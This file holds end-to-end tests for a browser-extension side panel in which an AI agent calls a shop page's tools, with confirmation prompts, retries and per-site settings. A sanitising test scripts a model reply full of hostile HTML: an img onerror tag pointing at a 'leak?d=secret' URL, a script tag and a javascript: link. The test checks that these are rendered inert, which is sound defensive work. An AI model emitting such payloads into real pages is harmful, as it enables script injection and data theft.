import { setStorage, toolCard } from './browser';
import { API_KEY, expect, expectAccessible, openShopWithPanel, screenshot, test, useCloud } from './sidepanel-helpers';

test.describe.configure({ timeout: 90_000 });

test('a cloud conversation on the demo shop: streamed answer, tool card, persisted across a panel reload', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  provider.script(
    { type: 'reply', toolCalls: [{ name: 'search_products', input: { query: 'mug' } }] },
    { type: 'reply', text: 'I found **two mugs**:\n\n- Enamel mug\n- Stoneware mug' },
  );
  const { shop, panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await expect(panel.getByRole('combobox', { name: 'Agent' })).toHaveValue('cloud');
  await screenshot(panel, 'panel-empty-cloud');

  const message = panel.getByRole('textbox', { name: 'Message' });
  await message.fill('Find me a mug');
  await message.press('Enter');
  await expect(panel.locator('.markdown strong')).toHaveText('two mugs', { timeout: 30_000 });
  await expect(panel.locator('.conversation').getByText('Find me a mug')).toBeVisible();
  const card = toolCard(panel, 'search_products');
  await expect(card.locator('.tool-state')).toHaveText('done');
  await card.locator('summary').click();
  await expect(card.locator('pre').first()).toContainText('"query": "mug"');
  // The tool ran in the page for real: the shop navigated to its search view.
  await expect(shop).toHaveURL(/#\/search\?q=mug/);
  await screenshot(panel, 'panel-conversation');
  await expectAccessible(panel);
  await panel.emulateMedia({ colorScheme: 'dark' });
  await screenshot(panel, 'panel-conversation-dark');
  await expectAccessible(panel);
  await panel.emulateMedia({ colorScheme: 'light' });

  // The provider got the page's tools and the person's message with the real key.
  const first = provider.requests.find((r) => r.path.endsWith('/chat/completions'))!;
  expect(first.headers.authorization).toBe(`Bearer ${API_KEY}`);
  expect(JSON.stringify(first.body)).toContain('search_products');

  await panel.reload();
  await expect(panel.locator('.markdown strong')).toHaveText('two mugs');
  await expect(toolCard(panel, 'search_products').locator('.tool-state')).toHaveText('done');

  await panel.getByRole('button', { name: 'New chat' }).click();
  await expect(panel.locator('.conversation').getByText('Find me a mug')).toHaveCount(0);
  await expect(panel.getByRole('button', { name: 'New chat' })).toBeDisabled();
  await panel.reload();
  await expect(panel.getByRole('heading', { name: 'What should the agent do here?' })).toBeVisible();
});

test('a consequential tool asks first: Allow once runs it, Deny tells the model and the page is untouched', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  const checkOut = { name: 'check_out', input: { name: 'Ada Lovelace', email: 'ada@example.com' } };
  // add_to_cart only exists once a product page is open: the agent sees the page's tools change between steps.
  provider.script(
    { type: 'reply', toolCalls: [{ name: 'open_product', input: { productId: 'ceramic-mug' } }] },
    { type: 'reply', toolCalls: [{ name: 'add_to_cart', input: {} }] },
    { type: 'reply', toolCalls: [checkOut] },
    { type: 'reply', text: 'I did not place the order.' },
  );
  const { shop, panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await panel.getByRole('textbox', { name: 'Message' }).fill('Buy the ceramic mug as Ada');
  await panel.getByRole('button', { name: 'Send' }).click();

  // add_to_cart is not marked read-only: by default it asks too, and the person allows it.
  const add = toolCard(panel, 'add_to_cart');
  await expect(add.locator('.tool-state')).toHaveText('waiting for you', { timeout: 30_000 });
  await add.getByRole('button', { name: 'Allow once' }).click();
  const card = toolCard(panel, 'check_out');
  await expect(card.locator('.tool-state')).toHaveText('waiting for you', { timeout: 30_000 });
  await expect(add.locator('.tool-state')).toHaveText('done');
  await expect(card.locator('fieldset.confirm')).toContainText(/Allow check_out on 127\.0\.0\.1:\d+\?/);
  await screenshot(panel, 'panel-confirmation');
  await expectAccessible(panel);
  await card.getByRole('button', { name: 'Deny' }).click();
  await expect(card.locator('.tool-state')).toHaveText('cancelled');
  await expect(panel.locator('.conversation').getByText('I did not place the order.')).toBeVisible();
  await expect(shop).not.toHaveURL(/#\/order\//);
  // The model was told the person declined.
  const told = JSON.stringify(provider.requests.at(-1)!.body);
  expect(told).toContain('The person declined to run check_out');

  // Same request again; this time allowed once.
  provider.script({ type: 'reply', toolCalls: [checkOut] }, { type: 'reply', text: 'Order placed.' });
  await panel.getByRole('textbox', { name: 'Message' }).fill('Yes, check out');
  await panel.getByRole('button', { name: 'Send' }).click();
  const second = toolCard(panel, 'check_out').nth(1);
  await expect(second.getByRole('button', { name: 'Allow once' })).toBeVisible({ timeout: 30_000 });
  // Keyboard only: the question takes focus when it appears (the person was not typing), Enter answers it.
  await expect(second.getByRole('button', { name: 'Allow once' })).toBeFocused();
  await panel.keyboard.press('Enter');
  await expect(second.locator('.tool-state')).toHaveText('done');
  await expect(panel.locator('.conversation').getByText('Order placed.')).toBeVisible();
  await expect(shop).toHaveURL(/#\/order\//);
});

test('Stop ends a slow reply (Esc works too), Retry continues, and errors are explained', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  provider.script({ type: 'reply', text: 'This is a long and slow answer that will not finish in time.', delayMs: 400 });
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await panel.getByRole('textbox', { name: 'Message' }).fill('Tell me everything');
  await panel.getByRole('button', { name: 'Send' }).click();
  await expect(panel.getByRole('button', { name: 'Stop' })).toBeVisible();
  await expect(panel.locator('.markdown')).toContainText('This', { timeout: 30_000 });
  await screenshot(panel, 'panel-streaming');
  await panel.keyboard.press('Escape');
  await expect(panel.getByRole('heading', { name: 'Stopped' })).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Send' })).toBeVisible();

  // Retry: the provider now fails with a refused key; the panel explains it and links to the settings.
  provider.script({ type: 'error', status: 401, message: 'Incorrect API key provided' });
  await panel.getByRole('button', { name: 'Retry' }).click();
  await expect(panel.getByRole('heading', { name: 'Something went wrong' })).toBeVisible({ timeout: 30_000 });
  await expect(panel.locator('.conversation').getByText(/refused the API key/)).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Open settings' })).toBeVisible();
  await screenshot(panel, 'panel-error');
  await expectAccessible(panel);

  // Retry once more and it works: the same user message is sent again.
  provider.script({ type: 'reply', text: 'Here is everything.' });
  await panel.getByRole('button', { name: 'Retry' }).click();
  await expect(panel.locator('.conversation').getByText('Here is everything.')).toBeVisible({ timeout: 30_000 });
  await expect(panel.locator('.conversation').getByText('Tell me everything')).toHaveCount(1);
  const last = JSON.stringify(provider.requests.at(-1)!.body);
  expect(last).toContain('Tell me everything');
});

test('the Tools view lists the page tools with annotations, and explains a page without tools (dark theme)', async ({
  context,
  server,
  openSidePanel,
}) => {
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await panel.getByRole('button', { name: /^Tools/ }).click();
  const tool = (title: string) =>
    panel.locator('.tool-list > li').filter({ has: panel.getByRole('heading', { name: title, exact: true }) });
  await expect(tool('Check out')).toContainText('Consequential');
  await expect(tool('Search products')).toContainText('Read-only');
  await expect(tool('Search products')).toContainText('search_products');
  await screenshot(panel, 'panel-tools');

  const plain = await context.newPage();
  await plain.goto(`${server.url}/plain.html`);
  const empty = await openSidePanel(plain);
  await empty.emulateMedia({ colorScheme: 'dark' });
  await empty.setViewportSize({ width: 400, height: 720 });
  await empty.getByRole('button', { name: /^Tools/ }).click();
  await expect(empty.getByText('This page offers no tools.')).toBeVisible({ timeout: 20_000 });
  await screenshot(empty, 'panel-no-tools-dark');
  await expectAccessible(empty);
  await empty.getByRole('button', { name: 'Chat', exact: true }).click();
  await expectAccessible(empty);
});

test('on-device mode without a downloaded model explains the download and the cloud without a key explains the settings', async ({
  context,
  server,
  serviceWorker,
  openSidePanel,
}) => {
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await expect(panel.getByRole('combobox', { name: 'Agent' })).toHaveValue('local');
  await expect(panel.locator('.status-card')).toBeVisible();
  await screenshot(panel, 'panel-local-status');
  await panel.getByRole('combobox', { name: 'Agent' }).selectOption({ label: 'Cloud' });
  await expect(panel.getByRole('heading', { name: 'The cloud model is not available' })).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Open settings' })).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Send' })).toBeDisabled();
  // The panel shows the choice at once and stores it after: wait for the write rather than race it.
  await expect.poll(() => serviceWorker.evaluate(() => chrome.storage.local.get('settings.mode'))).toEqual({ 'settings.mode': 'cloud' });
  await screenshot(panel, 'panel-cloud-unavailable');
  await expectAccessible(panel);
});

// DOMPurify needs a real DOM (happy-dom mangles it), so the sanitising is tested here, in the panel itself.
test('model text is Markdown, sanitised: hostile HTML quoted from a page is inert', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  provider.script({
    type: 'reply',
    text: [
      '**Bold**, `code` and [a link](https://shop.test/).',
      '',
      '<img src="http://127.0.0.1:1/leak?d=secret" onerror="document.title=1"> <b onclick="x()">hi</b>',
      '',
      '[bad](javascript:alert(1)) <script>document.title="pwned"</script>',
    ].join('\n'),
  });
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.getByRole('textbox', { name: 'Message' }).fill('Say something');
  await panel.getByRole('button', { name: 'Send' }).click();
  const text = panel.locator('.conversation .markdown');
  await expect(text.locator('strong')).toHaveText('Bold', { timeout: 30_000 });
  await expect(text.locator('code')).toHaveText('code');
  const link = text.getByRole('link', { name: 'a link' });
  await expect(link).toHaveAttribute('href', 'https://shop.test/');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(text.locator('b')).toHaveText('hi');
  expect(await text.evaluateAll((nodes) => nodes.map((n) => n.innerHTML).join(''))).not.toMatch(/<img|<script|onerror|onclick|javascript:/);
  expect(await panel.title()).toBe('WebMCP Agent');
});

test('without ?tab the panel follows the active tab of its window', async ({ context, server, extensionId }) => {
  const shop = await context.newPage();
  await shop.goto(`${server.url}/demo/`);
  const plain = await context.newPage();
  await plain.goto(`${server.url}/plain.html`);
  const panel = await context.newPage();
  await panel.goto(`chrome-extension://${extensionId}/sidepanel.html`);
  // Opened as a tab, the panel first follows itself (no tools): wait until it is listening, then switch.
  await expect(panel.getByRole('button', { name: 'Tools (0)' })).toBeVisible({ timeout: 20_000 });
  await shop.bringToFront();
  await expect(panel.getByRole('button', { name: 'Tools (5)' })).toBeVisible({ timeout: 20_000 });
  await plain.bringToFront();
  await expect(panel.getByRole('button', { name: 'Tools (0)' })).toBeVisible({ timeout: 20_000 });
});

test('a declarative form without toolautosubmit waits for the person on the page, and the card says so', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  provider.script(
    { type: 'reply', toolCalls: [{ name: 'subscribe_newsletter', input: { email: 'ada@example.com', frequency: 'Monthly' } }] },
    { type: 'reply', text: 'You are subscribed.' },
  );
  const { shop, panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.setViewportSize({ width: 400, height: 720 });
  await panel.getByRole('textbox', { name: 'Message' }).fill('Subscribe me monthly');
  await panel.getByRole('button', { name: 'Send' }).click();
  const card = toolCard(panel, 'subscribe_newsletter');
  // The form is not marked read-only: by default the panel asks first, like for any other such tool.
  await expect(card.locator('fieldset.confirm legend')).toContainText('Allow subscribe_newsletter', { timeout: 30_000 });
  await card.getByRole('button', { name: 'Allow once' }).click();
  await expect(card.locator('.tool-state')).toHaveText('waiting for you', { timeout: 30_000 });
  // The page asks for the person's click: the panel shows what to do, and no Allow buttons (the page decides).
  await expect(card.locator('fieldset.confirm legend')).not.toContainText('Allow subscribe_newsletter');
  await expect(card.locator('fieldset.confirm legend')).not.toBeEmpty();
  await expect(card.getByRole('button', { name: 'Allow once' })).toHaveCount(0);
  await screenshot(panel, 'panel-waiting-for-page');
  await expect(shop.locator('#newsletter input[name="email"]')).toHaveValue('ada@example.com');
  await shop.locator('#newsletter button[type="submit"]').click();
  await expect(card.locator('.tool-state')).toHaveText('done', { timeout: 20_000 });
  await expect(panel.locator('.conversation').getByText('You are subscribed.')).toBeVisible();
});

test('the confirmation policy from the settings is used, and "Always on this site" stops the asking', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  // Ask before anything not marked read-only: add_to_cart (unmarked) now asks too.
  await serviceWorker.evaluate(() => chrome.storage.local.set({ 'settings.confirmation': 'non-read-only' }));
  provider.script(
    { type: 'reply', toolCalls: [{ name: 'open_product', input: { productId: 'ceramic-mug' } }] },
    { type: 'reply', toolCalls: [{ name: 'add_to_cart', input: {} }] },
    { type: 'reply', toolCalls: [{ name: 'add_to_cart', input: {} }] },
    { type: 'reply', text: 'Two mugs are in your cart.' },
  );
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await panel.getByRole('textbox', { name: 'Message' }).fill('Add two ceramic mugs');
  await panel.getByRole('button', { name: 'Send' }).click();
  const first = toolCard(panel, 'add_to_cart').first();
  await expect(first.locator('.tool-state')).toHaveText('waiting for you', { timeout: 30_000 });
  // open_product is read-only: it ran without a question.
  await expect(toolCard(panel, 'open_product').locator('.tool-state')).toHaveText('done');
  await expect(first.locator('fieldset.confirm legend')).toContainText('does not mark it as read-only');
  await first.getByRole('button', { name: 'Always on this site' }).click();
  await expect(panel.locator('.conversation').getByText('Two mugs are in your cart.')).toBeVisible({ timeout: 30_000 });
  await expect(toolCard(panel, 'add_to_cart').locator('.tool-state')).toHaveText(['done', 'done']);
  const grants = await serviceWorker.evaluate(() => chrome.storage.local.get('settings.grants'));
  expect(grants['settings.grants']).toEqual([expect.objectContaining({ origin: server.url, tool: 'add_to_cart' })]);
});

test("a site's profile reaches the agent: its instructions in the prompt, only its allowed tools", async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
}) => {
  await useCloud(serviceWorker, provider);
  await setStorage(serviceWorker, {
    'settings.sites': [
      {
        origin: server.url,
        instructions: 'Fern & Field sells outdoor clothing. Search first.',
        maxSteps: 3,
        tools: ['search_products', 'get_cart'],
      },
    ],
  });
  provider.script({ type: 'reply', text: 'Hello from the shop.' });
  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  await expect(panel.getByRole('button', { name: 'Tools (2)' })).toBeVisible();
  await panel.getByRole('textbox', { name: 'Message' }).fill('Hi');
  await panel.getByRole('button', { name: 'Send' }).click();
  await expect(panel.locator('.conversation').getByText('Hello from the shop.')).toBeVisible({ timeout: 30_000 });
  const body = JSON.stringify(provider.requests.at(-1)!.body);
  expect(body).toContain('Fern & Field sells outdoor clothing. Search first.');
  expect(body).toContain('search_products');
  expect(body).not.toContain('check_out');
});
